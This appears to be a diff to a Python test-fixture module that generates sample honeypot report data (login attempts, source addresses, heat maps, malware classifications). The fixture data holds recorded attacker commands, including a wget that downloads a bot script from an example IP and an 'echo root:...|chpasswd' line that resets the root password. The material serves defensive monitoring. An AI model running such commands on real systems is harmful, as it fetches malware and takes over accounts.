@@ -26,6 +26,7 @@ def sample_document(report_type: ReportType = "daily", **head: Any) -> ReportDoc
         **deepcopy(_SECTIONS),
     }
     document["volume"] = _volume(report_type, period.start, period.end)
+    document["heat_map"] = _heat_map(report_type, period.start, period.end)
     document["changes"] = _changes(report_type, period.previous().label)
     if report_type != "daily":
         _rank(document)
@@ -54,6 +55,26 @@ def _volume(report_type: ReportType, start: date, end: date) -> dict[str, Any]:
         for number, moment in enumerate(hours if report_type == "daily" else days)
     ]
     return {"by": "hour" if report_type == "daily" else "day", "items": items}
+
+
+def _heat_map(report_type: ReportType, start: date, end: date) -> dict[str, Any] | None:
+    if report_type == "daily":
+        return None
+    first = start - timedelta(weeks=3) if report_type == "weekly" else start
+    days = [first + timedelta(days=day) for day in range((end - first).days)]
+    names = ("Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "Saturday", "Sunday")
+    return {
+        "start": f"{first}T00:00:00Z",
+        "end": f"{end}T00:00:00Z",
+        "weekdays": [
+            {
+                "weekday": name,
+                "days": sum(day.weekday() == number for day in days),
+                "hours": [(hour * 7 + number * 11) % 60 * (number + 1) for hour in range(24)],
+            }
+            for number, name in enumerate(names)
+        ],
+    }
 
 
 def _changes(report_type: ReportType, previous: str) -> dict[str, Any]:
@@ -86,8 +107,8 @@ def _changes(report_type: ReportType, previous: str) -> dict[str, Any]:
 def _rank(document: dict[str, Any]) -> None:
     """Places in the period before: the first rose, the second is new, the third fell, the others stayed."""
     for section in ("credentials", "commands", "files", "sources", "clients", "tunnels"):
-        for items in document[section].values():
-            if isinstance(items, list):
+        for name, items in document[section].items():
+            if name.startswith("top_"):
                 for place, item in enumerate(items, 1):
                     item["previous_rank"] = {1: 3, 2: None, 3: 1}.get(place, place)
 
@@ -153,6 +174,7 @@ _SECTIONS: dict[str, Any] = {
         ],
     },
     "volume": {},
+    "heat_map": None,
     "credentials": {
         "unique_usernames": 58,
         "unique_passwords": 812,
@@ -183,6 +205,24 @@ _SECTIONS: dict[str, Any] = {
     },
     "sources": {
         "top_ips": top(("192.0.2.1", 161), ("198.51.100.23", 71), ("2001:db8::17", 4)),
+        "addresses": [
+            {
+                "address": address,
+                "network": network,
+                "sessions": sessions,
+                "first_event_at": "2026-08-31T00:12:01.000000Z",
+                "last_event_at": "2026-08-31T22:07:40.500000Z",
+                "login_attempts": 303 + sessions,
+                "login_successes": 9 + sessions,
+                "commands": 302 + sessions,
+                "files": sessions % 9,
+            }
+            for address, network, sessions in (
+                ("192.0.2.1", "192.0.2.0/24", 161),
+                ("198.51.100.23", "198.51.100.0/24", 71),
+                ("2001:db8::17", None, 4),
+            )
+        ],
         "unique_networks": 103,
         "top_networks": top(("192.0.2.0/24", 188), ("2001:db8::/48", 4)),
     },
@@ -220,6 +260,10 @@ _SECTIONS: dict[str, Any] = {
             "risk_score": 95,
             "score": 88,
             "alike": 41,
+            "headline": [
+                {"kind": "new_file", "value": "http://192.0.2.7/bins/x86.sh"},
+                {"kind": "command", "value": "echo root:hunter2|chpasswd"},
+            ],
             "reasons": ["downloads a file never seen before", "removes traces of itself"],
             "sample_commands": ["uname -a", "wget http://192.0.2.7/bins/x86.sh", "echo root:hunter2|chpasswd"],
             "shasums": [HASH],
@@ -242,6 +286,7 @@ _SECTIONS: dict[str, Any] = {
             "risk_score": 12,
             "score": 35,
             "alike": 1,
+            "headline": [{"kind": "tunnel", "value": "198.51.100.9:25"}],
             "reasons": ["asks for 7 tunnels"],
             "sample_commands": [],
             "shasums": [],
@@ -288,11 +333,20 @@ _SECTIONS: dict[str, Any] = {
             "judged": 11,
             "coverage_percent": 78.6,
             "malicious": 5,
+            "clean": 6,
+            "unjudged": 3,
             "pending": 2,
             "failed": 1,
             "classifications": top(("trojan.mirai/gafgyt", 4), ("miner.xmrig", 1)),
         },
-        "addresses": {"unique_ips": 217, "judged": 199, "coverage_percent": 91.7, "dshield_flagged": 35},
+        "addresses": {
+            "unique_ips": 217,
+            "judged": 199,
+            "coverage_percent": 91.7,
+            "dshield_flagged": 35,
+            "unlisted": 164,
+            "unjudged": 18,
+        },
     },
     "operations": {
         "version": "0.1.0",
